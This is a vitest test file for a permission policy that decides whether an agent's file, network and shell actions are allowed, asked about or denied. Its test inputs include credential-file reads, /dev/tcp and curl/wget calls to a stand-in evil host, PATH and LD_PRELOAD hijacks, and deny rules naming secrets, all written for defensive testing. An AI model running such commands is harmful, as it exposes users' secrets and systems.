import { describe, expect, it } from "vitest";

import type { EffectRequest } from "../permission.ts";
import { createPermissionPolicy } from "./permission-policy.ts";
import { bash, file, home, policyOf, workspace } from "./policy.test.support.ts";

const decisionOf = (request: EffectRequest, options: Parameters<typeof policyOf>[0] = {}): string =>
  policyOf(options).decide(request).decision;

const other = (name: string, sideEffect: "pure" | "irreversible"): EffectRequest => ({
  tool: { name, sideEffect },
  access: [],
  workspace,
});

const network = (host: string): EffectRequest => ({
  tool: { name: "fetch", sideEffect: "pure" },
  access: [{ kind: "network", host }],
  workspace,
});

describe("profiles", () => {
  it.each([
    // path, reading and writing in read-only, reading and writing in workspace-write
    ["src/main.ts", "allow", "deny", "allow", "allow"],
    [".", "allow", "deny", "allow", "allow"],
    ["src/../a//b", "allow", "deny", "allow", "allow"],
    ["../other/main.ts", "ask", "deny", "ask", "ask"],
    ["src/../../app2/x", "ask", "deny", "ask", "ask"],
    ["/etc/passwd", "ask", "deny", "ask", "ask"],
    [".env", "deny", "deny", "deny", "deny"],
    ["packages/a/.env.local", "deny", "deny", "deny", "deny"],
    [".ENV", "deny", "deny", "deny", "deny"],
    [".env.example", "allow", "deny", "allow", "allow"],
    [`${home}/.ssh/id_ed25519`, "deny", "deny", "deny", "deny"],
    ["/proc/self/environ", "deny", "deny", "deny", "deny"],
    [".git/hooks/pre-commit", "allow", "deny", "allow", "deny"],
    ["vendor/lib/.git/config", "allow", "deny", "allow", "deny"],
    ["tau.toml", "allow", "deny", "allow", "deny"],
    ["docs/AGENTS.md", "allow", "deny", "allow", "ask"],
  ])("%s", (path, readInReadOnly, writeInReadOnly, readInWrite, writeInWrite) => {
    expect([
      decisionOf(file("read", path), { profile: "read-only" }),
      decisionOf(file("write", path), { profile: "read-only" }),
      decisionOf(file("read", path)),
      decisionOf(file("write", path)),
      decisionOf(file("write", path), { profile: "full" }),
    ]).toEqual([readInReadOnly, writeInReadOnly, readInWrite, writeInWrite, "allow"]);
  });

  it("allows tools that only look, and asks about the rest", () => {
    expect(decisionOf(other("todo", "pure"), { profile: "read-only" })).toBe("allow");
    expect(decisionOf(other("deploy", "irreversible"))).toBe("ask");
    expect(decisionOf(other("deploy", "irreversible"), { profile: "full" })).toBe("allow");
    expect(decisionOf(other("deploy", "irreversible"), { rules: { allow: ["dep*"] } })).toBe("allow");
  });

  it("connects only when the profile includes it", () => {
    expect(decisionOf(network("example.org"))).toBe("ask");
    expect(decisionOf(network("example.org"), { network: true })).toBe("allow");
    expect(decisionOf(network("example.org"), { rules: { allow: ["network(*.org)"] } })).toBe("allow");
    expect(
      decisionOf(network("Example.ORG.:443"), { network: true, rules: { deny: ["network(example.org)"] } }),
    ).toBe("deny");
    expect(decisionOf(network("0x7f.1"), { network: true, rules: { deny: ["network(127.*)"] } })).toBe(
      "deny",
    );
    expect(decisionOf(bash("echo x > /dev/tcp/example.org/80"))).toBe("ask");
  });

  it.each([
    ["example.org", "allow"],
    ["EXAMPLE.org.:443", "allow"],
    ["api.example.net", "allow"],
    ["example.net", "ask"],
    ["example.org.evil.net", "ask"],
    ["127.0.0.1:8080", "allow"],
    ["127.0.0.1", "ask"],
  ])("connects to %s when the profile names hosts: %s", (host, decision) => {
    const hosts = ["example.org", "*.example.net", "127.0.0.1:8080"];
    expect(decisionOf(network(host), { network: { hosts } })).toBe(decision);
  });

  it("needs its own permission to do more at a host than look", () => {
    const send = (host: string): EffectRequest => ({
      tool: { name: "http", sideEffect: "irreversible" },
      access: [
        { kind: "network", host },
        { kind: "send", host },
      ],
      workspace,
    });
    const rules = { allow: ["send(api.example.org)"] };
    expect(decisionOf(send("api.example.org"), { network: true })).toBe("ask");
    expect(decisionOf(send("api.example.org"), { rules })).toBe("ask");
    expect(decisionOf(send("api.example.org"), { network: true, rules })).toBe("allow");
    expect(decisionOf(send("example.org"), { network: true, rules })).toBe("ask");
    expect(decisionOf(send("api.example.org"), { profile: "full" })).toBe("allow");
    expect(decisionOf(send("x.org"), { profile: "full", rules: { deny: ["send(*.org)"] } })).toBe("deny");
    expect(
      policyOf({})
        .explain(send("x.org"))
        .effects.map(({ effect }) => effect),
    ).toEqual(["connecting to x.org", "sending to x.org"]);
  });

  it("leaves commands to an environment that enforces the profile, and asks about them on a host", () => {
    const script = 'for f in *.ts; do sort "$f" > "/tmp/$f"; done; PATH=bin:$PATH tool';
    for (const profile of ["read-only", "workspace-write"] as const) {
      expect(decisionOf(bash(script), { profile, enforced: true })).toBe("allow");
      expect(decisionOf(bash(script), { profile })).toBe("ask");
      expect(decisionOf(bash("npm test"), { profile })).toBe("ask");
      expect(decisionOf(bash("npm test"), { profile, rules: { allow: ["bash(npm test)"] } })).toBe("allow");
    }
    expect(decisionOf(bash(script), { profile: "full" })).toBe("allow");
    expect(decisionOf(bash("echo x > notes"), { profile: "read-only", enforced: true })).toBe("deny");
    expect(decisionOf(bash("echo x > /tmp/notes"), { profile: "read-only", enforced: true })).toBe("allow");
    expect(decisionOf(bash("cat < ~/.ssh/id_rsa"), { enforced: true })).toBe("deny");
  });
});

describe("approvals", () => {
  const rules = { ask: ["bash(git push *)"], allow: ["bash(git *)"] };
  it.each([
    ["git push origin", "ask", "ask", "deny"],
    ["make", "ask", "deny", "deny"],
    ["git log", "allow", "allow", "allow"],
    ["git $x", "ask", "deny", "deny"],
  ])("%s", (source, ask, policy, never) => {
    const decisions = (["ask", "policy", "never"] as const).map((approvals) =>
      decisionOf(bash(source), { rules, approvals }),
    );
    expect(decisions).toEqual([ask, policy, never]);
  });

  it("is headless unless told otherwise", () => {
    expect(createPermissionPolicy({ profile: "workspace-write" }).decide(bash("make")).decision).toBe("deny");
  });
});

describe("rules about commands", () => {
  const rules = {
    allow: [
      "bash(npm test)",
      "bash(npm run test:*)",
      "bash(git (status|diff) *)",
      "bash(./scripts/check.sh *)",
    ],
    deny: ["bash(git push *)", "bash(curl -k *)"],
  };
  it.each([
    ["npm test", "allow"],
    ["npm  'test'", "allow"],
    ["npm test --watch", "ask"],
    ["npm run test:unit", "allow"],
    ["npm run tests", "ask"],
    ["git status", "allow"],
    ["git diff --stat HEAD", "allow"],
    ["git stash", "ask"],
    ["git status; npm test", "allow"],
    ["git status && make", "ask"],
    ["git diff | npm test > out.txt 2>&1", "allow"],
    ["git diff > /etc/motd", "ask"],
    ["git diff > .git/hooks/pre-commit", "deny"],
    ["git diff >| .env", "deny"],
    ["cd src && git status", "allow"],
    ["cd .. && git status", "ask"],
    ["cd .git && git diff > config", "deny"],
    ["cd $x && git status", "ask"],
    ["timeout 60 npm test", "allow"],
    ["env CI=1 npm test", "allow"],
    ["CI=1 npm test", "allow"],
    ["bash -c 'npm test'", "allow"],
    ["bash -lc 'npm test'", "ask"],
    ["nohup npm test &", "allow"],
    ["/usr/bin/git status", "allow"],
    ["./git status", "ask"],
    ["/tmp/git status", "ask"],
    ["/usr/bin/../../tmp/git status", "ask"],
    ["/tmp/timeout 60 npm test", "ask"],
    ["./scripts/check.sh --all", "allow"],
    ["scripts/check.sh", "allow"],
    ["cd src && ./scripts/check.sh", "ask"],
    ["git status *", "ask"],
    ["git diff $x", "ask"],
    ['git diff "$(npm test)"', "ask"],
    ["git status # $(rm x)", "allow"],
    ["PATH=/tmp:$PATH; git status", "ask"],
    ["PATH=/tmp git status", "ask"],
    ["LD_PRELOAD=./x.so git status", "ask"],
    ["BASH_ENV=./x npm test", "ask"],
    ["GIT_EXTERNAL_DIFF=./x git diff", "ask"],
    ["export PATH=/tmp; git status", "ask"],
    ["for PATH in /tmp; do git status; done", "ask"],
    ["env NODE_OPTIONS=--require=./x npm test", "ask"],
    ["env --chdir=/tmp git status", "ask"],
    ["git() { :; }; git status", "ask"],
    ["set -a; git status", "ask"],
    ["git --no-pager push", "deny"],
    ["git -C .. push --force", "deny"],
    ["git commit -m push", "ask"],
    ["curl -sk https://example.org", "deny"],
    ["curl -s -k https://example.org", "deny"],
    ["curl -s https://example.org", "ask"],
    ["GIT PUSH", "ask"],
    ["Git push", "deny"],
    ["# only a comment", "allow"],
    ["[[ -f x ]]", "allow"],
    ["", "allow"],
    ["PATH=/tmp", "ask"],
    ["> /etc/motd", "ask"],
  ])("%s", (source, expected) => {
    expect(policyOf({ rules }).explain(bash(source))).toMatchObject({ decision: expected });
  });

  it("sees files that arguments name, and lets the environment guard its own", () => {
    const reading = {
      rules: {
        allow: ["bash(cat *)", "bash(grep *)", "bash(tee *)"],
        deny: ["read(secrets)", "write(*.lock)"],
      },
    };
    for (const source of [
      "cat secrets/key",
      "cat ./secrets/../secrets/key",
      "grep -fsecrets/key x",
      "cat secrets/*",
    ]) {
      expect(decisionOf(bash(source), reading)).toBe("deny");
      expect(decisionOf(bash(source), { ...reading, enforced: true })).toBe("deny");
    }
    expect(decisionOf(bash("cat .env"), reading)).toBe("deny");
    expect(decisionOf(bash("git add .env.example .env"), { enforced: true })).toBe("allow");
    expect(decisionOf(bash("tee npm.lock"), reading)).toBe("deny");
    expect(decisionOf(bash("cat npm.lock"), reading)).toBe("allow");
    expect(decisionOf(bash("echo secrets/key"), reading)).toBe("allow");
  });

  const limits = { allow: ["bash"], deny: ["read(secrets)", "write(*.lock)", "network(*.evil.org)"] };

  it("asks where an argument is computed, or a program may write what it is given", () => {
    for (const source of ["cat s*/key", "cat $(echo secrets/key)", "sort npm.lock", "curl -o npm.lock x"]) {
      for (const options of [{ enforced: true }, { profile: "full" as const }])
        expect([source, decisionOf(bash(source), { ...options, rules: limits })]).toEqual([source, "ask"]);
    }
    const plain = bash("cat npm.lock; git add npm.lock; echo s*");
    expect(decisionOf(plain, { rules: limits, enforced: true })).toBe("allow");
    expect(decisionOf(bash("curl file:///work%20space/app/secrets/key"), { rules: limits })).toBe("deny");
  });

  it("sees hosts that arguments name", () => {
    for (const source of [
      "curl https://a.evil.org/x",
      "git clone https://u:p@a.evil.org:8443/x",
      "git push git@a.evil.org:x/y main",
      "wget a.evil.org/x",
      "npm install --registry=http://a.evil.org",
    ])
      expect([source, decisionOf(bash(source), { rules: limits })]).toEqual([source, "deny"]);
    expect(decisionOf(bash("curl https://example.org/a.evil.org"), { rules: limits })).toBe("allow");
  });

  it.each([
    ["rm --recursive --force x", "bash(rm -rf *)"],
    ["rm -Rf x", "bash(rm -rf *)"],
    ["rm -r x --force", "bash(rm -rf *)"],
    ["curl --insecure x", "bash(curl -i *)"],
    ["npm publ", "bash(npm publish *)"],
  ])("asks about %s where %s is forbidden", (source, rule) => {
    expect(decisionOf(bash(source), { profile: "full", rules: { deny: [rule] } })).toBe("ask");
  });
});

describe("the whole call", () => {
  it("is as strict as its strictest effect", () => {
    const call = (paths: readonly string[]): EffectRequest => ({
      tool: { name: "edit", sideEffect: "idempotent" },
      access: paths.map((path) => ({ kind: "write", path })),
      workspace,
    });
    expect(decisionOf(call(["a", "b"]))).toBe("allow");
    expect(decisionOf(call(["a", "/etc/x"]))).toBe("ask");
    expect(decisionOf(call(["/etc/x", ".env", "a"]))).toBe("deny");
    expect(decisionOf(call(["src/a"]), { rules: { deny: ["edit(src/**)"] } })).toBe("deny");
    expect(decisionOf(call(["lib/a"]), { rules: { deny: ["edit(src/**)"] } })).toBe("allow");
  });

  it("names the rule and says what to do", () => {
    const rules = {
      deny: [{ rule: "bash(git push *)", reason: "Open a pull request with `gh pr create`." }],
    };
    expect(policyOf({ rules }).decide(bash("git push"))).toEqual({
      decision: "deny",
      rule: "bash(git push *)",
      layer: "user",
      reason: "The rule bash(git push *) forbids running git push. Open a pull request with `gh pr create`.",
    });
  });

  it("is explained effect by effect", () => {
    const policy = policyOf({ rules: { allow: ["bash(git *)"], deny: ["bash(git push *)"] } });
    expect(policy.explain(bash("git status | tee out > log"))).toMatchObject({
      decision: "ask",
      effects: [
        {
          effect: "running git status",
          decision: "allow",
          considered: [{ rule: "bash(git *)", match: "yes" }],
        },
        { effect: "running tee out", decision: "ask", considered: [] },
        { effect: `reading ${workspace}/status`, decision: "allow" },
        { effect: `reading ${workspace}/out`, decision: "allow" },
        { effect: `writing ${workspace}/out`, decision: "allow" },
        {
          effect: `writing ${workspace}/log`,
          decision: "allow",
          considered: [{ rule: "write(**)", origin: "profile" }],
        },
      ],
    });
    expect(policy.explain(bash("git $x"))).toMatchObject({
      effects: [
        { considered: [{ rule: "bash(git push *)", verdict: "deny", match: "maybe" }] },
        { effect: "running what cannot be read: the argument $x is computed", decision: "ask" },
      ],
    });
  });
});
